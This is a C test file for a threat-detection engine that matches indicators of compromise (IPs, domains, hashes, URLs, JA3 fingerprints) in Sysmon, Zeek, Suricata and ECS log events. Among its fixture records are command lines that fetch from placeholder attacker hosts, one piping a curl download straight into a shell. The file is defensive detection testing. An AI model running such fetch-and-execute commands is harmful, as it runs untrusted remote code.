#include "engine/lookout.h"

#include "engine/normalise.h"
#include "lf_normaliser.h"
#include "lf_test.h"

static const uint64_t seed[4] = { 3, 5, 7, 9 };

static void add(struct lf_lookout *w, const char *value, uint8_t id, unsigned flags)
{
    struct lf_err e = { 0 };
    enum lf_observable_kind kind;

    CHECK(lf_observable_guess(lf_view_of(value), &kind), "%s", value);
    CHECK_OK(lf_ioc_add(lf_lookout_set(w), kind, lf_view_of(value),
                        &(struct lf_ioc){ .id = { id }, .confidence = 90, .flags = (uint8_t)flags }, &e),
             &e);
}

/* Events as senders have them; who: the indicator that must be hit, 0 none. */
static const struct {
    const char *name, *record;
    int who;
} rows[] = {
    { "Sysmon network connection", "{\"Channel\":\"x\",\"DestinationIp\":\"198.51.100.7\"}", 1 },
    { "its neighbour", "{\"DestinationIp\":\"198.51.100.70\"}", 0 },
    { "mapped into IPv6", "{\"DestinationIp\":\"::ffff:198.51.100.7\"}", 1 },
    { "EVE", "{\"event_type\":\"alert\",\"src_ip\":\"198.51.100.7\",\"dest_ip\":\"192.0.2.1\"}", 1 },
    { "Zeek", "{\"_path\":\"conn\",\"id.orig_h\":\"192.0.2.9\",\"id.resp_h\":\"203.0.113.200\"}", 2 },
    { "nested ECS", "{\"destination\":{\"ip\":\"198.51.100.7\"}}", 1 },
    { "nested ECS of DNS", "{\"dns\":{\"question\":{\"name\":\"a.evil.example\",\"type\":\"A\"}}}", 3 },
    { "its answers", "{\"dns\":{\"answers\":[{\"name\":\"x.tw\",\"data\":\"198.51.100.7\",\"type\":\"A\"}]}}",
      1 },
    { "its answers, a name", "{\"dns\":{\"answers\":[{\"name\":\"x.tw\",\"data\":\"b.evil.example\"}]}}", 3 },
    { "flat", "{\"dns.question.name\":\"a.evil.example\"}", 3 },
    { "another name", "{\"user\":{\"name\":\"evil.example\"},\"host\":{\"name\":\"evil.example\"}}", 0 },
    { "nested ECS of mail", "{\"email\":{\"from\":{\"address\":[\"me@mail.example\"]}}}", 7 },
    { "nested Windows",
      "{\"Event\":{\"System\":{\"EventID\":3},\"EventData\":{\"DestinationIp\":\"198.51.100.7\"}}}", 1 },
    { "an address in a field nobody named", "{\"x\":{\"y\":[\"a\",\"198.51.100.7\"]}}", 1 },
    { "a name under it", "{\"QueryName\":\"Www.Evil.Example.\"}", 3 },
    { "a name beside it", "{\"QueryName\":\"notevil.example\"}", 0 },
    { "only itself", "{\"query\":\"www.only.example\"}", 0 },
    { "itself", "{\"query\":\"only.example\"}", 4 },
    { "a name in a field that holds none", "{\"ServiceName\":\"evil.example\"}", 0 },
    { "host with port", "{\"cs-host\":\"evil.example:8080\"}", 3 },
    { "Sysmon's answers", "{\"QueryResults\":\"type:  5 cdn.ok.example;::ffff:198.51.100.7;\"}", 1 },
    { "Sysmon's sums",
      "{\"Hashes\":\"SHA1=0,MD5=CEAD3F77F6CDA6EC00F57D76C9A69FAA,IMPHASH=00000000000000000000000000000000\"}",
      5 },
    { "an import sum is no MD5", "{\"Hashes\":\"IMPHASH=CEAD3F77F6CDA6EC00F57D76C9A69FAA\"}", 0 },
    { "a sum by its shape", "{\"whatever\":\"cead3f77f6cda6ec00f57d76c9a69faa\"}", 5 },
    { "a whole URL", "{\"url.full\":\"HTTP://Bad.Example:80/a?b#c\"}", 6 },
    { "its other path", "{\"url.full\":\"http://bad.example/A?b\"}", 0 },
    { "a URL in a command", "{\"CommandLine\":\"curl -o x 'http://bad.example/a?b' | sh\"}", 6 },
    { "the host of a URL", "{\"CommandLine\":\"wget https://a.evil.example/x\"}", 3 },
    { "a mail's sender", "{\"mail_from\":\"\\\"X\\\" <Me@Mail.Example>\"}", 7 },
    { "a JA3 sum",
      "{\"event_type\":\"tls\",\"tls\":{\"ja3\":{\"hash\":\"e7d705a3286e19ea42f587b344ee6865\"}}}", 8 },
    { "the same sum elsewhere is no JA3", "{\"md5\":\"e7d705a3286e19ea42f587b344ee6865\"}", 0 },
    { "a text nobody understood", "Nov 21 fw DROP from=198.51.100.7, to evil: 9", 1 },
    { "a message is not read where fields are", "{\"message\":\"198.51.100.7\"}", 0 },
};

static size_t look(struct lf_lookout *w, struct lf_arena *a, const char *record, uint32_t now,
                   struct lf_lookout_hit **hits)
{
    struct lf_record r = { .bytes = lf_view_of(record), .recorded = LF_SECOND };
    struct lf_event ev;

    test_normalise(a, &r, &ev);
    return lf_lookout_event(w, a, &ev, now, hits);
}

static struct lf_lookout *made(void)
{
    struct lf_lookout *w = lf_lookout_create(seed);
    struct lf_err e = { 0 };

    add(w, "198.51.100.7", 1, 0);
    add(w, "203.0.113.128/25", 2, 0);
    add(w, "evil.example", 3, LF_IOC_SUBDOMAINS);
    add(w, "only.example", 4, 0);
    add(w, "cead3f77f6cda6ec00f57d76c9a69faa", 5, 0);
    add(w, "http://bad.example/a?b", 6, 0);
    add(w, "me@mail.example", 7, 0);
    CHECK_OK(lf_ioc_add(lf_lookout_set(w), LF_OBS_JA3, LF_V("e7d705a3286e19ea42f587b344ee6865"),
                        &(struct lf_ioc){ .id = { 8 } }, &e),
             &e);
    return w;
}

static void observables_are_found_where_senders_put_them(void)
{
    struct lf_lookout *w = made();
    struct lf_arena a = { 0 };

    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct lf_lookout_hit *hits;
        size_t n = look(w, &a, rows[i].record, 1, &hits);

        CHECK(n == (rows[i].who != 0) && (n == 0 || hits[0].what.id[0] == rows[i].who), "%s: %zu hits, of %d",
              rows[i].name, n, n ? hits[0].what.id[0] : 0);
        lf_arena_reset(&a);
    }
    lf_arena_clear(&a);
    lf_lookout_destroy(w);
}

static void a_change_is_live_for_the_next_event(void)
{
    struct lf_lookout *w = made();
    struct lf_arena a = { 0 };
    struct lf_lookout_hit *hits;
    const char *record = "{\"src_ip\":\"192.0.2.77\"}";
    const uint8_t id[16] = { 9 };
    struct lf_err e = { 0 };

    CHECK(look(w, &a, record, 1, &hits) == 0, "before");
    add(w, "192.0.2.77", 9, 0);
    CHECK(look(w, &a, record, 1, &hits) == 1, "added");
    CHECK(lf_ioc_remove(lf_lookout_set(w), LF_OBS_IPV4, LF_V("192.0.2.77"), id), "there");
    CHECK(look(w, &a, record, 1, &hits) == 0, "withdrawn");
    CHECK_OK(lf_ioc_add(lf_lookout_set(w), LF_OBS_IPV4, LF_V("192.0.2.77"),
                        &(struct lf_ioc){ .id = { 9 }, .expires = 100 }, &e),
             &e);
    CHECK(look(w, &a, record, 99, &hits) == 1, "not yet expired");
    CHECK(look(w, &a, record, 100, &hits) == 0, "expired");
    lf_lookout_clear(w);
    CHECK(look(w, &a, "{\"src_ip\":\"198.51.100.7\"}", 1, &hits) == 0, "emptied");
    lf_arena_clear(&a);
    lf_lookout_destroy(w);
}

/* What was asked in vain is remembered; so each way that it may become a hit is tried. */
static void what_was_asked_in_vain_is_found_once_it_is_there(void)
{
    struct lf_lookout *w = made();
    struct lf_arena a = { 0 };
    struct lf_lookout_hit *hits;

    for (int i = 0; i < 3; i++)
        CHECK(look(w, &a, "{\"QueryName\":\"sub.later.example\"}", 1, &hits) == 0, "a name, before");
    add(w, "later.example", 9, LF_IOC_SUBDOMAINS);
    CHECK(look(w, &a, "{\"QueryName\":\"sub.later.example\"}", 1, &hits) == 1, "its parent");
    CHECK(look(w, &a, "{\"src_ip\":\"192.0.2.77\"}", 1, &hits) == 0, "an address, before");
    add(w, "192.0.2.0/24", 10, 0);
    CHECK(look(w, &a, "{\"src_ip\":\"192.0.2.77\"}", 1, &hits) == 1, "its network");
    CHECK(look(w, &a, "{\"md5\":\"e7d705a3286e19ea42f587b344ee6865\"}", 1, &hits) == 0, "a file's sum");
    CHECK(look(w, &a, "{\"ja3\":\"e7d705a3286e19ea42f587b344ee6865\"}", 1, &hits) == 1,
          "the same of a client");
    lf_lookout_clear(w);
    add(w, "unrelated.example", 1, 0);
    CHECK(look(w, &a, "{\"src_ip\":\"192.0.2.77\"}", 1, &hits) == 0, "emptied");
    lf_lookout_clear(w);
    add(w, "192.0.2.77", 11, 0);
    CHECK(look(w, &a, "{\"src_ip\":\"192.0.2.77\"}", 1, &hits) == 1, "another set of as many changes");
    lf_arena_clear(&a);
    lf_lookout_destroy(w);
}

static void a_hit_is_a_finding_once_and_a_sighting_each_time(void)
{
    struct lf_lookout *w = made();
    struct lf_arena a = { 0 };
    struct lf_lookout_sighting *s;
    size_t findings = 0;

    for (uint64_t i = 0; i < 100; i++) {
        struct lf_record r = { .bytes = LF_V("{\"Computer\":\"h1\",\"QueryName\":\"x.evil.example\"}"),
                               .position = 10 + i,
                               .recorded = LF_HOUR + (lf_time)i * LF_SECOND };
        struct lf_finding *f;
        struct lf_event ev;
        size_t n;

        test_normalise(&a, &r, &ev);
        n = lf_lookout_findings(w, &a, &ev, LF_HOUR, true, &f);
        if (n) {
            CHECK_VIEW(f[0].rule, LF_V("indicator--03000000-0000-0000-0000-000000000000"));
            CHECK(f[0].level == LF_LEVEL_HIGH, "%d", (int)f[0].level);
            CHECK_VIEW(f[0].observables[0].value, LF_V("x.evil.example"));
        }
        findings += n;
    }
    CHECK(findings == 1, "%zu findings", findings);
    CHECK(lf_lookout_sightings(w, &a, &s) == 1, "one indicator");
    CHECK(s[0].count == 100 && s[0].id[0] == 3, "%llu times", (unsigned long long)s[0].count);
    CHECK(s[0].position_first == 10 && s[0].position == 109, "positions");
    CHECK(s[0].first == LF_HOUR && s[0].last == LF_HOUR + 99 * LF_SECOND, "times");
    CHECK(lf_lookout_sightings(w, &a, &s) == 0, "taken once");
    lf_arena_clear(&a);
    lf_lookout_destroy(w);
}

static void what_a_warning_list_has_is_no_finding(void)
{
    static const char *const lists[] = {
        "{\"name\":\"resolvers\",\"type\":\"cidr\",\"list\":[\"198.51.100.0/24\",\"2001:db8::/32\"]}",
        "{\"name\":\"big sites\",\"type\":\"hostname\",\"list\":[\"evil.example\",\"nonsense nonsense\"]}",
        "{\"name\":\"exact\",\"type\":\"string\",\"list\":[\"only.example\"]}",
        "{\"name\":\"desks\",\"type\":\"regex\",\"list\":[\"/^(me|noc)\\\\@.*$/i\"]}",
    };
    struct lf_warninglists *lists_of = lf_warninglists_create(seed);
    struct lf_lookout *w = made();
    struct lf_arena a = { 0 };
    struct lf_lookout_sighting *s;
    struct lf_lookout_hit *hits;
    struct lf_err e = { 0 };

    for (size_t i = 0; i < sizeof lists / sizeof *lists; i++)
        CHECK_OK(lf_warninglists_add(lists_of, lf_view_of(lists[i]), &e), &e);
    CHECK(lf_warninglists_add(lists_of, LF_V("{\"name\":\"x\",\"type\":\"y\",\"list\":[]}"), &e) ==
              LF_UNACCEPTED,
          "taken");
    CHECK(lf_warninglists_count(lists_of) == 4 && lf_warninglists_entries(lists_of) == 5 &&
              lf_warninglists_passed(lists_of) == 1,
          "%zu entries, %zu passed", lf_warninglists_entries(lists_of), lf_warninglists_passed(lists_of));
    CHECK_VIEW(lf_warninglists_has(lists_of, LF_OBS_URL, LF_V("http://a.evil.example/x")), LF_V("big sites"));
    CHECK_VIEW(lf_warninglists_has(lists_of, LF_OBS_DOMAIN, LF_V("a.only.example")), LF_V(""));
    CHECK_VIEW(lf_warninglists_has(lists_of, LF_OBS_IPV6, LF_V("2001:db8::9")), LF_V("resolvers"));
    CHECK_VIEW(lf_warninglists_has(lists_of, LF_OBS_EMAIL, LF_V("NOC@any.example")), LF_V("desks"));
    lf_lookout_allow(w, lists_of);
    CHECK(look(w, &a, "{\"src_ip\":\"198.51.100.7\"}", 1, &hits) == 1, "a hit");
    CHECK_VIEW(hits[0].list, LF_V("resolvers"));
    for (int i = 0; i < 3; i++) {
        struct lf_record r = { .bytes = LF_V("{\"src_ip\":\"198.51.100.7\"}") };
        struct lf_finding *f;
        struct lf_event ev;

        test_normalise(&a, &r, &ev);
        CHECK(lf_lookout_findings(w, &a, &ev, LF_SECOND, true, &f) == 0, "a finding");
    }
    CHECK(lf_lookout_sightings(w, &a, &s) == 1 && s[0].count == 3, "three sightings");
    CHECK_VIEW(s[0].list, LF_V("resolvers"));
    lf_arena_clear(&a);
    lf_lookout_destroy(w);
    lf_warninglists_destroy(lists_of);
}

static void an_indicator_s_id_is_its_uuid(void)
{
    struct lf_arena a = { 0 };
    uint8_t id[16];
    lf_view text = LF_V("indicator--4527e5de-8572-446a-a57a-706f15467461");

    CHECK(lf_lookout_indicator_parse(text, id), "read");
    CHECK_VIEW(lf_lookout_indicator(&a, id), text);
    CHECK(!lf_lookout_indicator_parse(LF_V("malware--4527e5de-8572-446a-a57a-706f15467461"), id), "other");
    CHECK(!lf_lookout_indicator_parse(LF_V("indicator--4527e5de"), id), "cut");
    lf_arena_clear(&a);
}

int main(void)
{
    RUN(observables_are_found_where_senders_put_them);
    RUN(a_change_is_live_for_the_next_event);
    RUN(what_was_asked_in_vain_is_found_once_it_is_there);
    RUN(a_hit_is_a_finding_once_and_a_sighting_each_time);
    RUN(what_a_warning_list_has_is_no_finding);
    RUN(an_indicator_s_id_is_its_uuid);
    DONE();
}
